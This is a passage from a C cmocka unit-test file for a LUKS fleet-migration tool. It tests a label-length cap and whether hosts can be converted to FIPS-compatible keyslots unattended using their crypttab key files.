    free(big);
    big = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", body);
    f = merge("in", big);
    assert_int_equal(fl_fleet_n_errors(f), 0);
    fl_fleet_free(f);
    /* one character more: refused */
    label[4096 - 3 + 10] = 'x';
    label[4096 - 3 + 10 + 1] = '\0';
    free(body);
    body = NULL;
    if (asprintf(&body, "\"label\":\"%s\",%s", label, good_volume) <= 0)
        abort();
    free(big);
    big = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", body);
    f = merge("in", big);
    assert_int_equal(fl_fleet_n_errors(f), 1);
    fl_fleet_free(f);
    free(label);
    free(body);
    free(big);
    free(ok);
}

/*
 * Whether a host can be fixed without an operator: every keyslot to convert opens with the key file
 * its /etc/crypttab names (scan's crypttab_key "opens"). Then one fipsluks migrate --crypttab does it.
 */
static void test_unattended(void **state)
{
    static const char keyed[] =
        "\"path\":\"/dev/sda2\",\"absolute_path\":\"/dev/sda2\",\"status\":\"ok\",\"fips_compatible\":false,"
        "\"crypttab\":{\"name\":\"root\",\"key_file\":\"/etc/luks/root\"},"
        "\"keyslots\":[{\"id\":0,\"kdf\":\"argon2id\",\"crypttab_key\":\"%s\"%s},{\"id\":1,\"kdf\":"
        "\"pbkdf2\"}],"
        "\"findings\":[{\"rule\":\"FL-KDF-ARGON2\",\"severity\":\"error\",\"object\":\"keyslot 0\"}%s]";
    static const char compatible[] = "\"path\":\"/dev/sdb\",\"status\":\"ok\",\"fips_compatible\":true,"
                                     "\"keyslots\":[{\"id\":0,\"kdf\":\"pbkdf2\"}],\"findings\":[]";
    struct {
        const char *key, *tokens, *more;
        int unattended;
    } cases[] = {
        {"opens", "", "", 1},
        {"fails", "", "", 0},
        {"none", "", "", 0},
        {"opens", ",\"tokens\":[{\"type\":\"systemd-tpm2\"}]", "", 0}, /* re-enrolment */
        {"opens", "", ",{\"rule\":\"FL-CIPHER\",\"severity\":\"error\",\"object\":\"segment 0\"}", 0},
    };

    (void)state;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char *body = NULL, *text, *good = volume_line(MID_B, "db-1", "2026-11-29T07:00:00Z", compatible);
        const struct fl_fleet_host *h;
        struct fl_fleet *f;
        bool crypttab = false, key_slot = false;

        assert_true(asprintf(&body, keyed, cases[i].key, cases[i].tokens, cases[i].more) > 0);
        text = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", body);
        f = merge("in", text);
        assert_int_equal(fl_fleet_add(f, "in", good, strlen(good)), 0);
        assert_int_equal(fl_fleet_finish(f, NOW, 86400), 0);
        assert_int_equal(fl_fleet_n_hosts(f), 2);
        h = fl_fleet_host(f, 1); /* web-1, after db-1 */
        assert_string_equal(h->hostname, "web-1");
        if (h->unattended != cases[i].unattended)
            fail_msg("case %zu: unattended %d, expected %d", i, h->unattended, cases[i].unattended);
        assert_int_equal(h->volumes[0].unattended, cases[i].unattended == 1);
        for (size_t k = 0; h->commands && h->commands[k]; k++) {
            crypttab |= !strcmp(h->commands[k], FL_FLEET_CRYPTTAB_COMMAND);
            key_slot |= strstr(h->commands[k], "--key-slot 0") != NULL;
        }
        assert_int_equal(crypttab, cases[i].unattended == 1);
        assert_int_equal(key_slot, cases[i].unattended == 0 && !*cases[i].tokens && !*cases[i].more);
        assert_int_equal(fl_fleet_host(f, 0)->unattended, -1); /* db-1: nothing to fix */
        assert_int_equal(fl_fleet_summary(f)->unattended, cases[i].unattended == 1);
        fl_fleet_free(f);
        free(text);
        free(good);
        free(body);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_lines_and_documents),
        cmocka_unit_test(test_newest_scan_wins_and_staleness),
        cmocka_unit_test(test_hostile_remedy),
        cmocka_unit_test(test_command_safe),
        cmocka_unit_test(test_malformed_records),
        cmocka_unit_test(test_garbage),
        cmocka_unit_test(test_error_cap),
        cmocka_unit_test(test_allocation_failures),
        cmocka_unit_test(test_pieces),
        cmocka_unit_test(test_todo_rebuilt),
        cmocka_unit_test(test_path_usable),
        cmocka_unit_test(test_future_refused),
        cmocka_unit_test(test_conflict_any_order),
        cmocka_unit_test(test_string_cap),
        cmocka_unit_test(test_unattended),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
